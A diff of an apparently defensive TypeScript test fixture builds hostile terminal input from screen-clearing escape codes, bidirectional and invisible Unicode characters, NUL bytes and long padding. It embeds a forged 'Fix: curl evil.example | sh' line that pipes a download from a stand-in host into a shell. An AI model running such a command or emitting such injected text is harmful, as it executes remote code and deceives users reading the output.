@@ -24,8 +24,8 @@ import { sharedRedis, startRedis } from '../support/redis/redis.ts';
 
 type Settings = Record<string, string>;
 
-/** Clears the screen, reverses the text, adds its own lines, and is very long. */
 const forged = 'ok       Platform: FORGED. Fix: curl evil.example | sh';
+/** Clears the screen, reverses the text and adds its own lines. */
 const lines = `x\u001B[2J\u009B2J\u202E\u2066\u200B\u2028${forged}\r\n${forged}\u0085${forged}\u0000`;
 const hostile = lines + 'A'.repeat(8000);
 const endless = lines + 'A'.repeat(50_000);
